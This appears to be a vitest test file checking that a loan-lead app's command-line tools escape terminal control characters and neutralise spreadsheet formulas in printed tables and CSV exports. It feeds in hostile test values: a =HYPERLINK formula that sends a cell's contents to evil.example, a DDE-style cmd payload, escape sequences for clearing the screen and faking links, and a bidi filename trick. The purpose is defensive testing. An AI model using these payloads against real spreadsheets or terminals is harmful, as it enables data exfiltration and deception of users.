/**
 * What operators' commands print is data, never instructions: table cells have their control
 * characters escaped (no clear-screen, no OSC 8 links, no bidi tricks reach the terminal), and
 * CSV cells that a spreadsheet would run as a formula start with an apostrophe. Table tests of
 * the shared functions, then `npm run leads` and `npm run traces` for real over hostile stored values,
 * and `npm run costs` over a hostile report.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sealText } from '../../engine/keys/sealing';
import { migrateStore, openStore } from '../../engine/store/db';
import { insertLead } from '../../engine/store/leads';
import { recordSessionTrace } from '../../engine/store/sessionTraces';
import { csv, spreadsheetSafe, terminalSafe, textTable } from '../../scripts/cliFormat';
import { leadRow } from '../support/leadRow';

const ESC = '\u001b';
const CLEAR = `${ESC}[2J${ESC}[H`;
const LINK = `${ESC}]8;;http://evil.example/${ESC}\\click me${ESC}]8;;${ESC}\\`;

describe('spreadsheetSafe', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A2,"x")', `'=HYPERLINK("http://evil.example/?"&A2,"x")`],
    ['+1+cmd|/C calc!A0', `'+1+cmd|/C calc!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    ['\n=1', `'\n=1`],
    ['Ana', 'Ana'],
    ['a=b', 'a=b'],
    ['', ''],
    ['2500', '2500'],
  ])('%j → %j', (value, safe) => expect(spreadsheetSafe(value)).toBe(safe));

  it('csv() applies it to every cell and still quotes per RFC 4180', () => {
    const out = csv(
      [{ name: '=1+2', note: '-x,"y"' }],
      [
        ['name', (r) => r.name],
        ['note', (r) => r.note],
      ],
    );
    expect(out).toBe(`name,note\r\n'=1+2,"'-x,""y"""\r\n`);
  });

  it.each([
    ['a semicolon', ';'],
    ['a tab', '\t'],
  ])('csv() cells split at %s (as a spreadsheet with that list separator reads them) never start like a formula', (_, separator) => {
    const hostile = ['Ana;=HYPERLINK("http://evil.example","x")', 'Ana\t=1+1', '\t=1', 'x;@SUM(1+1)', 'y;-2+3'];
    const out = csv(
      hostile.map((v) => ({ v })),
      [['utm_campaign', (r) => r.v]],
    );
    const cells = spreadsheetCells(out, separator);
    expect(cells.slice(1).map((row) => row.length)).toEqual(hostile.map(() => 1));
    expect(cells.flat().filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
  });
});

/** A CSV's cells as a spreadsheet reads them with `separator` as its list separator: quoted fields kept whole. */
function spreadsheetCells(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === separator) {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

describe('terminalSafe', () => {
  it.each([
    [CLEAR, '\\x1b[2J\\x1b[H'],
    ['bell\u0007', 'bell\\x07'],
    ['del\u007f', 'del\\x7f'],
    ['csi\u009b2J', 'csi\\x9b2J'],
    ['abc\u202etxt.exe', 'abc\\u202etxt.exe'],
    ['García 5 000', 'García 5 000'],
  ])('%j → %j', (value, safe) => expect(terminalSafe(value)).toBe(safe));

  it('a table of hostile values holds no control character', () => {
    const table = textTable([{ v: LINK }, { v: CLEAR }], [['value', (r) => r.v, 80]]);
    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
    expect(table).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(table).toContain('\\x1b]8;;http://evil.example/');
  });
});

describe('npm run leads and npm run traces over hostile stored values', () => {
  const dir = mkdtempSync(join(tmpdir(), 'loansites-cli-safety-'));
  const file = join(dir, 'cli.sqlite');
  const env = { ...process.env, LOANSITES_DB_FILE: file, DATABASE_URL: '', LEADS_ENCRYPTION_KEY: 'f'.repeat(64) };
  const run = (script: string, args: string[]) => spawnSync(process.execPath, ['--import', 'tsx', script, ...args], { encoding: 'utf8', timeout: 60_000, env });
  beforeAll(async () => {
    const db = openStore({ url: '', file });
    await migrateStore(db);
    const now = new Date().toISOString();
    await insertLead(
      db,
      leadRow({
        idempotency_key: 'hostile-cli-key-000001',
        created_at: now,
        city: `Austin${CLEAR}`,
        first_name: '=HYPERLINK("http://evil.example/?"&A2,"x")',
        last_name: LINK,
        email: 'x@example.org',
        pay_frequency: 'weekly',
        sealed: sealText('{"dateOfBirth":"1990-01-01","monthlyIncome":1}', Buffer.from('f'.repeat(64), 'hex')),
        consent_text: 't',
        source: '@SUM(1+1)',
        source2: '-2+3',
        click_id: `gg${ESC}[31mred`,
      }),
      [],
    );
    await recordSessionTrace(db, {
      uuid: 'cc' + '3'.repeat(32),
      brand: 'ipaydayloans',
      source1: CLEAR,
      source2: LINK,
      clickId: `\u009b2J`,
      gaClientId: '1.2',
      userAgent: 'ua',
      ip: '203.0.113.0',
      createdAt: now,
    });
    await db.destroy();
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('the tables print the values escaped, with no control character', () => {
    for (const [script, args] of [
      ['scripts/leads.ts', ['--since', '1h']],
      ['scripts/traces.ts', ['--since', '1h']],
    ] as const) {
      const out = run(script, [...args]);
      expect(out.status).toBe(0);
      // eslint-disable-next-line no-control-regex -- looking for control characters is the point
      expect(out.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
      expect(out.stdout).toContain('\\x1b[2J');
    }
  }, 120_000);

  it('npm run costs prints the cells a refused report quotes escaped, with no control character', () => {
    const report = join(dir, 'hostile-costs.csv');
    writeFileSync(report, `day,campaign,cost\n2026-11-01,rtl\u202eexe.txt,1\n2026-11-01,rtl\u202eexe.txt,2\n2026-11-01,c,x${CLEAR}\n`);
    const out = run('scripts/costs.ts', ['import', report, '--source', 'generic']);
    expect(out.status).toBe(1);
    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
    expect(out.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(out.stderr).toContain('line 3: 2026-11-01 for campaign "rtl\\u202eexe.txt" is already on line 2');
    expect(out.stderr).toContain('line 4: the cost "x\\x1b[2J\\x1b[H" is not an amount');
  }, 60_000);

  it('the CSV export neutralises formulas', () => {
    const out = run('scripts/leads.ts', ['--since', '1h', '--csv']);
    expect(out.status).toBe(0);
    const row = out.stdout.split('\r\n')[1]!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""x"")"`);
    expect(row).toContain(`,'@SUM(1+1),'-2+3,`);
    expect(row).not.toMatch(/(^|,)[=+\-@]/);
  }, 60_000);
});
